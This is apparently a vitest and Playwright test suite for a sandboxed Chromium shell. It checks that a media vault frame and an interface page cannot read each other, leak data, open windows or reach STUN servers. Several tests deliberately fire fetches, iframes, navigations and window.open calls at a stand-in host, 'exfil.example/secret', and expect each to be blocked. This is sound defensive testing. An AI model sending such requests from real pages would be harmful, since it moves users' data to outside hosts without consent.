import { execFileSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Frame, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { findChromium } from "../../main/setup/index.ts";
import { createChromiumShell, type ChromiumShell } from "../../main/shell/chromium/index.ts";
import { buildPreload } from "../support/preload.ts";
import { smallApp, type SmallApp } from "../support/small-app.ts";

const folder = mkdtempSync(join(tmpdir(), "vitrine-shell-"));
const clip = join(folder, "clip.mp4");
const vault = "https://vault.vitrine.invalid";

/** Incompressible enough to need several pieces: 20 s, one keyframe a second. */
function makeClip(): void {
  const picture = ["-f", "lavfi", "-i", "testsrc2=size=640x360:rate=25:duration=20"];
  const sound = ["-f", "lavfi", "-i", "sine=frequency=440:duration=20"];
  const coding = ["-vf", "noise=alls=60:allf=t", "-c:v", "libx264", "-preset", "ultrafast", "-crf", "24", "-g", "25"];
  execFileSync("ffmpeg", [
    "-v",
    "error",
    "-y",
    ...picture,
    ...sound,
    ...coding,
    "-pix_fmt",
    "yuv420p",
    "-c:a",
    "aac",
    "-movflags",
    "+faststart",
    clip,
  ]);
}

describe("Chromium shell", () => {
  let shell: ChromiumShell;
  let app: SmallApp;
  let page: Page;
  let picture: Frame;

  beforeAll(async () => {
    makeClip();
    const preloadFile = join(folder, "index.cjs");
    writeFileSync(preloadFile, await buildPreload());
    const executable = findChromium();
    if (executable === null) {
      throw new Error("no Chromium on this machine; npm test installs one as root");
    }
    app = smallApp(readFileSync(clip), (channel, input) => ({ ok: true, value: { channel, input } }));
    shell = await createChromiumShell({ executable, preloadFile, headless: true });
    await shell.open(app);
    page = shell.testOnlyPage();
    const frame = page.frames().find((candidate) => candidate.url().startsWith(vault));
    if (frame === undefined) {
      throw new Error("the picture frame did not load");
    }
    picture = frame;
  });

  afterAll(async () => {
    await shell.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it("shows the interface with its scripts and styles under the real headers", async () => {
    expect(await page.evaluate("globalThis.pageRan")).toBe(true);
    expect(await page.evaluate("getComputedStyle(document.querySelector('h1')).color")).toBe("rgb(1, 2, 3)");
    expect(await page.evaluate("location.origin")).toBe(shell.origins.interface);
  });

  it("R4 prints one form in another browser, without script, from two addresses; the window does not notice", async () => {
    const before = [page.url(), page.frames().length];
    const style = "@page { size: A4 } p { break-after: page }";
    const form = `<!doctype html><link rel="stylesheet" href="./assets/paper.css"><p>one</p><p>two</p>
      <script>document.body.innerHTML = "<p>1</p><p>2</p><p>3</p><p>4</p>"</script>
      <img alt="" src="${vault}/ticket/picture"><iframe src="${shell.origins.interface}/index.html"></iframe>`;
    const printed = await shell.print({ page: form, style });
    const pdf = printed.kind === "pdf" ? Buffer.from(printed.bytes).toString("latin1") : "";
    expect(pdf.slice(0, 5)).toBe("%PDF-");
    // Two paragraphs and what stands behind them; the script would have made four.
    expect(pdf.match(/\/Type\s*\/Page\b/gu)?.length).toBe(3);
    expect(pdf).not.toMatch(/\/Subtype\s*\/Image/u);
    expect([page.url(), page.frames().length]).toEqual(before);
  });

  it("shows the picture frame on the vault's own origin, and it runs", async () => {
    expect(await picture.evaluate("globalThis.pictureRan")).toBe(true);
    expect(await picture.evaluate("location.origin")).toBe(shell.origins.vault);
  });

  it("A50 R4 leaves neither page a feature that this browser knows, but for what plays the picture", async () => {
    expect(await page.evaluate("document.featurePolicy.features().length")).toBeGreaterThan(60);
    const playing = new Set(["autoplay", "media-playback-while-not-visible"]);
    for (const frame of [page.mainFrame(), picture]) {
      // oxlint-disable-next-line no-await-in-loop -- one page after the other
      const allowed = await frame.evaluate<string[]>("document.featurePolicy.allowedFeatures()");
      expect(allowed.filter((feature) => !playing.has(feature))).toEqual([]);
    }
  });

  it("gives the window the bridge of the channel table, frozen, and carries plain data both ways", async () => {
    expect(await page.evaluate("Object.isFrozen(workstation) && Object.isFrozen(workstation.identity)")).toBe(true);
    expect(await page.evaluate("workstation.footage.show({ asset: 'a-1' })")).toEqual({
      ok: true,
      value: { channel: "footage:show", input: { asset: "a-1" } },
    });
    expect(app.calls.at(-1)?.sender).toEqual({ isMainFrame: true, url: "https://app.vitrine.invalid/" });
  });

  it("carries announcements in order and stops when unsubscribed", async () => {
    await page.evaluate(
      `globalThis.heard = []; globalThis.stop = workstation.requests.onChanged((it) => heard.push(it.id));`,
    );
    for (const id of ["r-1", "r-2", "r-3"]) {
      shell.send("requests:changed", { id });
    }
    // The page's own policy forbids the eval that waitForFunction needs.
    await expect.poll(async () => page.evaluate("heard")).toEqual(["r-1", "r-2", "r-3"]);
    await page.evaluate("stop()");
    shell.send("requests:changed", { id: "r-4" });
    await page.evaluate("workstation.station.status()");
    expect(await page.evaluate("heard.length")).toBe(3);
  });

  it("A34 A36 R3: the picture frame has no bridge, and no binding is left lying about in any frame", async () => {
    const leftovers = `Object.getOwnPropertyNames(globalThis).filter((name) => /^b[0-9a-f]{32}$/.test(name) || name === "workstation")`;
    expect(await picture.evaluate(leftovers)).toEqual([]);
    expect(await page.evaluate(leftovers)).toEqual(["workstation"]);
  });

  it("A34 R3: a frame without an address that the page makes has no bridge", async () => {
    expect(
      await page.evaluate(`(() => {
        const frame = document.body.appendChild(document.createElement("iframe"));
        const names = Object.getOwnPropertyNames(frame.contentWindow).filter((name) => /^b[0-9a-f]{32}$/.test(name) || name === "workstation");
        frame.remove();
        return names;
      })()`),
    ).toEqual([]);
  });

  it("script in the interface cannot read the vault, by any way of asking", async () => {
    const outcome = await page.evaluate(`(async () => {
      const url = "${vault}/ticket-1/frames";
      const failed = (promise) => promise.then(() => "read", () => "refused");
      const element = (tag, set) => new Promise((resolve) => {
        const it = document.createElement(tag);
        it.onload = it.onloadeddata = () => resolve("read");
        it.onerror = () => resolve("refused");
        set(it);
        document.body.append(it);
        setTimeout(() => resolve("silent"), 1500);
      });
      return Promise.all([
        failed(fetch(url)), failed(fetch(url, { mode: "no-cors" })),
        element("img", (it) => { it.src = url; }), element("video", (it) => { it.src = url; }),
        element("script", (it) => { try { it.src = url; } catch { it.onerror(); } }),
      ]);
    })()`);
    expect(outcome).not.toContain("read");
    expect(app.vaultRequests.filter(({ path }) => path === "/frames")).toEqual([]);
  });

  it("A12 O-1: a request to anywhere else is refused and observed without its path", async () => {
    const before = app.events.length;
    expect(await picture.evaluate(`fetch("https://exfil.example/secret").then(() => "sent", () => "refused")`)).toBe(
      "refused",
    );
    await page.evaluate(
      `(() => { const it = document.createElement("iframe"); it.src = "https://exfil.example/secret"; document.body.append(it); })()`,
    );
    await page.evaluate(`(() => { setTimeout(() => { location.href = "https://exfil.example/secret"; }); })()`);
    await expect
      .poll(() => app.events.slice(before))
      .toContainEqual({
        kind: "blocked",
        what: "navigation",
        detail: "https://exfil.example",
      });
    expect(page.url()).toBe("https://app.vitrine.invalid/");
  });

  it("A14 A15 opens no window, prints nothing, keeps nothing", async () => {
    expect(await page.evaluate(`window.open("about:blank") === null`)).toBe(true);
    expect(
      await page.evaluate(
        `(() => { let printed = 0; addEventListener("beforeprint", () => { printed += 1; }); print(); return printed; })()`,
      ),
    ).toBe(0);
    expect(
      await page.evaluate(`navigator.serviceWorker?.getRegistrations?.().then((all) => all.length, () => 0) ?? 0`),
    ).toBe(0);
  });

  it("plays a clip piece by piece and seeks to its end and back", async () => {
    const outcome = await picture.evaluate(`(async () => {
      const video = document.getElementById("video");
      const once = (type) => new Promise((resolve) => video.addEventListener(type, resolve, { once: true }));
      if (video.readyState < 2) { await once("loadeddata"); }
      const seek = async (to) => { const done = once("seeked"); video.currentTime = to; await done; return video.currentTime; };
      const places = [await seek(19.5), await seek(3.02), await seek(11.1)];
      await video.play();
      await new Promise((resolve) => { const check = () => (video.currentTime > 11.6 ? resolve() : requestAnimationFrame(check)); check(); });
      video.pause();
      return { places, duration: Math.round(video.duration), error: video.error?.code ?? null, width: video.videoWidth };
    })()`);
    expect(outcome).toMatchObject({ places: [19.5, 3.02, 11.1], duration: 20, error: null, width: 640 });
    expect(app.reads.length).toBeGreaterThan(2);
    expect(Math.max(...app.reads.map(([from, to]) => to - from))).toBeLessThanOrEqual(1_048_576);
  });

  it.each([
    ["bytes=0-0", 206, "bytes 0-0/"],
    ["bytes=-5", 206, "bytes "],
    ["bytes=5-2", 416, "bytes */"],
    ["bytes=0-1,4-5", 416, "bytes */"],
    ["bytes=99999999999999-", 416, "bytes */"],
    ["items=0-5", 416, "bytes */"],
  ])("A30 answers Range %j with %i", async (range, status, contentRange) => {
    const answer = await picture.evaluate(async (header) => {
      const response = await fetch("./media", { headers: { range: header } });
      return { status: response.status, range: response.headers.get("content-range") };
    }, range);
    expect(answer.status).toBe(status);
    expect(answer.range).toMatch(new RegExp(`^${contentRange.replaceAll("*", "\\*")}`, "u"));
  });

  it("says which protections are real and claims no more", async () => {
    const protections = await shell.protections();
    expect(protections).toMatchObject({ capture: "unavailable", kiosk: "unavailable", keyStore: "unavailable" });
    expect(protections["sandbox"]).toBe(process.getuid?.() === 0 ? "unavailable" : "live");
  });

  it("leaves no profile behind", async () => {
    const executable = findChromium() ?? "";
    const other = await createChromiumShell({ executable, preloadFile: join(folder, "index.cjs"), headless: true });
    const profile = other.testOnlyProfile();
    expect(existsSync(profile)).toBe(true);
    await other.close();
    expect(existsSync(profile)).toBe(false);
  });
});

describe("Chromium shell without the pages' own policy", () => {
  let shell: ChromiumShell;
  let app: SmallApp;
  let page: Page;
  let picture: Frame;
  const blocked = (what: string, detail: string) => ({ kind: "blocked", what, detail });

  beforeAll(async () => {
    const strict = smallApp(new Uint8Array(4096));
    const lax = { "content-type": "text/html" };
    // The pages' policy is the first wall; here it is gone, so that the second one shows.
    app = {
      ...strict,
      serveInterface: async (path) => {
        const { status, body, headers } = await strict.serveInterface(path);
        return { status, body, headers: { "content-type": headers["content-type"] ?? "" } };
      },
      serveVault: async (request) => {
        const answer = await strict.serveVault(request);
        return answer.kind === "source"
          ? answer
          : { ...answer, headers: request.path === "/" ? lax : { "content-type": "text/javascript" } };
      },
    };
    const preloadFile = join(folder, "lax.cjs");
    mkdirSync(folder, { recursive: true });
    writeFileSync(preloadFile, await buildPreload());
    shell = await createChromiumShell({ executable: findChromium() ?? "", preloadFile, headless: true });
    await shell.open(app);
    page = shell.testOnlyPage();
    picture = page.frames().find((frame) => frame.url().startsWith(vault)) ?? page.mainFrame();
  });

  afterAll(async () => {
    await shell.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it.each(["https://exfil.example/x", "http://127.0.0.1:80/x", "https://app.vitrine.invalid/assets/page.js?x=1"])(
    "refuses and observes a request of the picture frame to %s",
    async (url) => {
      const before = app.events.length;
      expect(
        await picture.evaluate(
          async (to) =>
            fetch(to, { mode: "no-cors" }).then(
              () => "sent",
              () => "refused",
            ),
          url,
        ),
      ).toBe("refused");
      expect(app.events.slice(before)).toContainEqual(blocked("request", new URL(url).origin));
    },
  );

  it("gives the interface's own script nothing of the vault, not even unread", async () => {
    const before = app.vaultRequests.length;
    const url = `${vault}/ticket-1/media`;
    expect(
      await page.evaluate(
        async (to) =>
          fetch(to, { mode: "no-cors" }).then(
            () => "sent",
            () => "refused",
          ),
        url,
      ),
    ).toBe("refused");
    expect(app.vaultRequests.length).toBe(before);
    expect(app.events).toContainEqual(blocked("request", vault));
  });

  it("A12 does not let a frame open the samples themselves", async () => {
    const before = app.vaultRequests.length;
    await page.evaluate(
      `(() => { const frame = document.createElement("iframe"); frame.src = "${vault}/ticket-1/media"; document.body.append(frame); })()`,
    );
    await expect.poll(() => app.events).toContainEqual(blocked("navigation", vault));
    expect(app.vaultRequests.slice(before).filter(({ path }) => path === "/media")).toEqual([]);
  });

  it("A14 closes and observes another window", async () => {
    // By a real click: without one the browser's own popup blocker is in the way.
    await page.evaluate(`(() => { document.onclick = () => { window.open("https://exfil.example/x"); }; })()`);
    await page.mouse.click(40, 30);
    await page.evaluate(`(() => { document.onclick = null; })()`);
    await expect
      .poll(() => app.events.filter((event) => event.kind === "blocked" && event.what === "window").length)
      .toBeGreaterThan(0);
    await expect.poll(() => page.context().pages().length).toBe(1);
  });

  it("comes back when a script leaves for an empty page", async () => {
    await page.evaluate(`(() => { setTimeout(() => { location.href = "about:blank"; }); })()`);
    await expect.poll(() => app.events).toContainEqual(blocked("navigation", "about:"));
    await expect.poll(() => page.url()).toBe("https://app.vitrine.invalid/");
    await expect.poll(async () => page.evaluate("typeof workstation")).toBe("object");
  });

  it("A24 R3: reaches no STUN server, whatever the page's policy", async () => {
    const stun = createSocket("udp4");
    let packets = 0;
    stun.on("message", () => (packets += 1));
    await new Promise<void>((resolve) => stun.bind(0, "127.0.0.1", resolve));
    await picture
      .page()
      .mainFrame()
      .evaluate(async (port) => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        peer.createDataChannel("x");
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise((resolve) => setTimeout(resolve, 1500));
        peer.close();
      }, stun.address().port);
    stun.close();
    expect(packets).toBe(0);
  });
});
